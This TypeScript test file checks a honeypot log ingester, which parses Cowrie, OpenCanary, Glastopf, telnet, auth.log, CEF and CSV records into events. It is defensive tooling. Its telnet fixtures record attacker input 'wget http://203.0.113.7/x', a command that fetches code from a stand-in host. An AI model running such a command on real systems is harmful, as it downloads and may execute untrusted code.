import assert from 'node:assert/strict';
import { createReadStream } from 'node:fs';
import { basename } from 'node:path';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { type AnyEntry, readAny } from '../../src/ingest/read-any.ts';
import { isTextLog } from '../../src/ingest/text-log.ts';
import { sharedDataIsMissing, sharedFile } from '../support/shared-data.ts';

const writtenAt = '2026-11-24T12:00:00.000Z';

async function* inPieces(bytes: Uint8Array, size: number): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

async function entriesOf(input: string | Uint8Array, size = 1000): Promise<AnyEntry[]> {
  const bytes = typeof input === 'string' ? Buffer.from(input) : input;
  const all: AnyEntry[] = [];
  for await (const some of readAny(inPieces(bytes, size), writtenAt)) all.push(...some);
  return all;
}

/** What became of each record: the format of an event, or the reason. */
const told = (entries: readonly AnyEntry[]): string[] =>
  entries.map((one) =>
    one.status === 'draft' ? `${one.format} ${one.draft.kind}` : `${one.status}: ${one.reason}`,
  );

const cowrie = {
  eventid: 'cowrie.login.failed',
  src_ip: '203.0.113.9',
  session: 'a',
  protocol: 'ssh',
  username: 'root',
  password: '1',
  timestamp: '2026-08-21T10:15:31.000001Z',
};
const opencanary = {
  dst_host: '10.0.0.5',
  dst_port: 21,
  local_time: '2026-08-21 10:15:31.000001',
  logdata: { USERNAME: 'a', PASSWORD: 'b' },
  logtype: 2000,
  node_id: 'oc',
  src_host: '203.0.113.9',
  src_port: 4000,
};
const native = {
  timestamp: '2026-08-21T10:15:31Z',
  service: 'ssh',
  source_ip: '203.0.113.9',
  activity: 'login attempt',
  payload: 'a:b',
};
const stranger = { type: 'Newpot', src_ip: '203.0.113.9', timestamp: '2026-08-21T10:15:31Z', data: 'x' };

describe('a file whose format nobody named', () => {
  it('is read record by record, each by its own fields', async () => {
    const lines = [cowrie, opencanary, native, stranger].map((record) => JSON.stringify(record)).join('\n');
    const wanted = [
      'cowrie login.failed',
      'opencanary login.failed',
      'native login.failed',
      'null payload.received',
    ];
    for (const size of [1, 7, 64, 100_000]) assert.deepEqual(told(await entriesOf(lines, size)), wanted);
    assert.deepEqual(told(await entriesOf(gzipSync(lines))), wanted);
    const array = JSON.stringify([cowrie, opencanary, native, stranger], null, 2);
    assert.deepEqual(told(await entriesOf(array)), wanted);
    const fromRuntime = lines
      .split('\n')
      .map((line) => `2026-08-21T10:15:31.123456789Z stdout F ${line}`)
      .join('\n');
    assert.deepEqual(told(await entriesOf(fromRuntime)), wanted);
    const [, , , last] = await entriesOf(lines);
    assert.match(last?.unknown ?? '', /type Newpot/);
  });

  it('names rows and records without a time by what they are, whenever the file was written', async () => {
    const idsAt = async (text: string, at: string): Promise<(string | null)[]> => {
      const all: AnyEntry[] = [];
      for await (const some of readAny(inPieces(Buffer.from(text), 1000), at)) all.push(...some);
      return all.map((one) => (one.status === 'draft' ? one.draft.event_id : one.reason));
    };
    const rows = 'src_ip,method,path\n203.0.113.9,GET,/\n203.0.113.9,GET,/\n203.0.113.8,GET,/\n';
    const records = '{"src_ip":"203.0.113.9","path":"/"}\n{"src_ip":"203.0.113.8","path":"/"}\n';
    for (const text of [rows, records])
      assert.deepEqual(await idsAt(text, writtenAt), await idsAt(text, '2026-11-25T07:00:00.000Z'));
    assert.equal(new Set(await idsAt(rows, writtenAt)).size, 4);
  });

  it('finds records in what a recorder of requests put round them, and takes the time from there', async () => {
    const frame = {
      t: 1795513551,
      time: '2026-11-24T09:45:51Z',
      channel: 'x',
      payload: JSON.stringify({ source: ['203.0.113.9', 4000], data: 'GET /' }),
    };
    const [entry] = await entriesOf(JSON.stringify(frame));
    assert.ok(entry?.status === 'draft');
    assert.equal(entry.draft.source_ip, '203.0.113.9');
    assert.equal(entry.draft.timestamp, '2026-11-24T09:45:51.000Z');
  });

  it('reads sign-ins of auth.log with the year of the file, repeats included, and counts the other lines', async () => {
    const log = [
      'Dec 31 23:59:58 host sshd[1]: Failed password for root from 203.0.113.9 port 58945 ssh2',
      'Jan  1 00:00:01 host sshd[1]: message repeated 3 times: [ Failed password for invalid user x from 203.0.113.9 port 58945 ssh2]',
      'Jan  1 00:00:02 host CRON[2]: pam_unix(cron:session): session closed for user root',
      'Jan  1 00:00:03 host sshd[3]: Accepted publickey for ubuntu from 198.51.100.7 port 54259 ssh2: RSA x',
      '2026-11-23 10:00:00,123 fail2ban.actions [7]: NOTICE [sshd] Ban 203.0.113.9',
      '',
    ].join('\n');
    const entries = await entriesOf(log);
    assert.deepEqual(told(entries), [
      'lines login.failed',
      'lines login.failed',
      'lines login.failed',
      'lines login.failed',
      'skipped: is a line about something else',
      'skipped: is no attempt, or told of in another line',
      'lines payload.received',
    ]);
    const times = entries.map((one) => (one.status === 'draft' ? one.draft.timestamp : ''));
    assert.equal(times[0], '2025-12-31T23:59:58.000Z');
    assert.equal(times[3], '2026-01-01T00:00:01.000Z');
    assert.equal(times[6], '2026-11-23T10:00:00.123Z');
    const ids = entries.flatMap((one) => (one.status === 'draft' ? [one.draft.event_id] : []));
    assert.equal(new Set(ids).size, ids.length);
    const again = await entriesOf(log, 3);
    assert.deepEqual(
      again.flatMap((one) => (one.status === 'draft' ? [one.draft.event_id] : [])),
      ids,
    );
  });

  it('reads CEF, tables, JSON in a text, Python and datagrams with NULs between them', async () => {
    const cef =
      '2026-11-24T08:05:36.971997Z CEF:0|Cowrie|Cowrie|1.0|cowrie.command.input|cowrie.command.input|5|app=SSHv2 msg=CMD: uname -a src=203.0.113.9 spt=41808';
    assert.deepEqual(told(await entriesOf(cef)), ['lines command.run']);
    const table =
      'timestamp,source_ip,username,password\r\n2026-11-24 09:45:51.9,203.0.113.9,"a,b",c\r\n1,2\r\n';
    assert.deepEqual(told(await entriesOf(table)), [
      'skipped: names the columns',
      'lines login.failed',
      'invalid: has 2 columns instead of 4',
    ]);
    assert.deepEqual(told(await entriesOf(`${JSON.stringify(JSON.stringify(cowrie))}\n"{cut\n`)), [
      'lines login.failed',
      'invalid: is not valid JSON',
    ]);
    const datagram = `<12>${JSON.stringify(cowrie)}`;
    assert.deepEqual(told(await entriesOf(`${datagram}\0${datagram}\0`)), [
      'lines login.failed',
      'lines login.failed',
    ]);
    assert.deepEqual(
      told(
        await entriesOf(
          "<12>{'eventid': 'cowrie.session.connect', 'src_ip': '203.0.113.9', 'session': 'a', 'protocol': 'ssh', 'timestamp': '2026-11-24T07:58:28.4Z'}\n",
        ),
      ),
      ['lines connection.opened'],
    );
  });

  it('reads what Glastopf and a telnet honeypot write for people', async () => {
    const glastopf = [
      '2017-03-26 00:18:55,690 (glastopf.glastopf) 203.0.113.9 requested GET / on 203.0.113.1 requested GET /x on 0a1b:80',
      '2017-03-26 00:18:56,113 (glastopf.modules.rfi) Failed to fetch injected file',
      'Traceback (most recent call last):',
    ];
    const entries = await entriesOf(glastopf.join('\n'));
    assert.deepEqual(told(entries), [
      'lines http.request',
      'skipped: is a message from the sensor about itself',
      'skipped: is a line about something else',
    ]);
    assert.ok(entries[0]?.status === 'draft');
    assert.equal(entries[0].draft.source_ip, '203.0.113.9');
    assert.match(entries[0].draft.payload, /^GET \/ on 203\.0\.113\.1 requested GET \/x HTTP\/1\.1\r\n/);
    const telnet = [
      "2017-03-31 00:02:21,043 - __main__ - INFO - RECEIVED INPUT 203.0.113.9 : ['wget http://203.0.113.7/x']",
      '2017-03-31 00:02:20,792 - __main__ - INFO - 203.0.113.9:42486 logged in as admin-12-3',
      '2017-03-31 00:02:23,685 - __main__ - INFO - Lost connection to 203.0.113.9:42486',
      '2017-03-31 05:59:44,571 - __main__ - INFO - Listening for connections on port 23.',
    ];
    assert.deepEqual(told(await entriesOf(telnet.join('\n'))), [
      'lines command.run',
      'lines login.succeeded',
      'lines connection.closed',
      'skipped: is a message from the sensor about itself',
    ]);
  });

  it('reads to the end of a line that has a NUL in it, and over NULs before one', async () => {
    const line =
      "2017-03-31 00:02:21,043 - __main__ - INFO - RECEIVED INPUT 203.0.113.9 : ['wget\0 http://203.0.113.7/x']";
    for (const size of [1, 7, 1000]) {
      const entries = await entriesOf(
        `${'\0'.repeat(40)}${line}\n\0\0${line.replace('21,043', '22,043')}\n`,
        size,
      );
      assert.deepEqual(told(entries), ['lines command.run', 'lines command.run']);
      for (const entry of entries) {
        assert.ok(entry.status === 'draft');
        assert.match(entry.draft.payload, /wget.*203\.0\.113\.7\/x/s);
      }
    }
  });

  it('says of what is no log that it is none, line by line, and never throws', async () => {
    assert.deepEqual(
      told(await entriesOf('nothing\nof this\n')),
      Array(2).fill('invalid: is no record of a sensor, no CEF or LEEF, and no line about a sign-in'),
    );
    const noise = Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 131 + (at >> 3)) % 256));
    for (const entry of await entriesOf(noise)) assert.notEqual(entry.status, 'draft');
    const endless = await entriesOf(Buffer.alloc(3 * 1024 * 1024, 97), 65_536);
    assert.deepEqual(told(endless), ['invalid: is longer than 1048576 bytes (3145728)']);
    const second = Buffer.concat([
      Buffer.from('Jan  1 00:00:01 host x: y\n'),
      Buffer.alloc(3 * 1024 * 1024, 97),
    ]);
    assert.deepEqual(told(await entriesOf(second, 65_536)), [
      'skipped: is a line about something else',
      'invalid: is longer than 1048576 bytes',
    ]);
    assert.deepEqual(await entriesOf(''), []);
    assert.deepEqual(told(await entriesOf('{"hits": []}\n{"a":1}')), [
      'skipped: is empty (Elasticsearch)',
      'invalid: record: is not of a known sensor and names no source',
    ]);
  });

  it('is one of JSON although its first lines are messages', () => {
    assert.equal(isTextLog('[-] Log opened.\n[ERR] x\n{"eventid":"x"}\n', true), false);
    assert.equal(isTextLog('[\n{"a":1}', false), false);
    assert.equal(isTextLog('Jan  1 00:00:01 host cowrie: {"a":1}\n', true), false);
    assert.equal(isTextLog('plain\nlines', true), true);
  });
});

/** Files of real sensors, and how many lines of each are damaged in the file. */
const logs: readonly (readonly [path: string[], invalid: number, events: number])[] = [
  [['cowrie_real', 'kareiva_2018-05-10_21.json'], 0, 16_955],
  [['cowrie_real', 'scriptzteam_2017-10-07.json'], 0, 4377],
  [['cowrie_real', 'scriptzteam_2017-11-04.json'], 0, 3833],
  [['cowrie_real', 'compx520_excerpt_2016_20.json'], 0, 164],
  [['cowrie_real', 'dblanko_2026-06_excerpt.json'], 0, 72],
  [['tpot_2025', 'ciscoasa.jsonl'], 0, 1468],
  [['tpot_2025', 'dionaea.jsonl'], 0, 2701],
  [['tpot_2025', 'heralding.jsonl'], 0, 4224],
  [['tpot_2025', 'honeytrap.jsonl'], 0, 2639],
  [['dionaea_mhn', 'mhn_dionaea_2017-11-11.json'], 0, 2030],
  // Two records of no visitor: their address is missing.
  [['mhn_secrepo_2014_17', 'events.jsonl.gz'], 2, 5923],
  [['mhn_secrepo_2014_17', 'raw_hpfeeds_sample.json'], 0, 50],
  [['honey_2017_mixed', 'auth_2017-02-05.log'], 0, 2925],
  [['honey_2017_mixed', 'glastopf_2017-03-26.log'], 0, 375],
  [['honey_2017_mixed', 'http_requests_2017-03-27.jsonl'], 0, 2756],
  [['honey_2017_mixed', 'telnet_2017-03-31.log.gz'], 0, 16_126],
  [['ics_honeypot', 'modbus.json.gz'], 0, 2039],
  [['docker_api_honeypot', 'requests_2021_2022.jsonl'], 0, 792],
  [['format_samples', 'opencanary_2019_lab.log'], 0, 33],
  [['format_samples', 'telnethoney_2026.json'], 0, 60],
  // Addresses that were made unreadable: 203.0.113.4712.
  [['format_samples', 'suricata_eve_2026.json'], 19, 17],
  [['real_sensors', 'cowrie', 'cowrie.json'], 0, 713],
  [['real_sensors', 'cowrie', 'socketlog.raw'], 0, 713],
  [['real_sensors', 'cowrie', 'audit.cef'], 0, 713],
  [['real_sensors', 'cowrie', 'remotesyslog-udp.raw'], 0, 794],
  [['real_sensors', 'opencanary', 'opencanary.log'], 0, 288],
  [['real_sensors', 'opencanary', 'socket-json.raw'], 0, 251],
  [['real_sensors', 'opencanary', 'syslog-udp.raw'], 0, 251],
  [['real_sensors', 'heralding', 'log_session.json'], 0, 69],
  [['real_sensors', 'heralding', 'log_auth.csv'], 0, 37],
  [['real_sensors', 'qeeqbox', 'honeypots-json.log'], 0, 106],
  [['real_sensors', 'qeeqbox', 'honeypots-double-encoded.log'], 0, 106],
  [['real_sensors', 'qeeqbox', 'honeypots-tpot-style.log'], 0, 57],
];

describe('real logs of sensors', { skip: sharedDataIsMissing }, () => {
  for (const [path, invalid, events] of logs)
    it(`${basename(path.join('/'))}: every record is an event, skipped with a reason, or damaged in the file`, async () => {
      const file = sharedFile(...path);
      assert.ok(file !== null, `${path.join('/')} is missing`);
      const reasons: string[] = [];
      let drafts = 0;
      for await (const some of readAny(createReadStream(file), writtenAt))
        for (const entry of some) {
          if (entry.status === 'draft') drafts += 1;
          else if (entry.status === 'invalid') reasons.push(`${entry.line}: ${entry.reason}`);
        }
      assert.deepEqual([reasons.length, drafts], [invalid, events], reasons.slice(0, 5).join('\n'));
    });
});
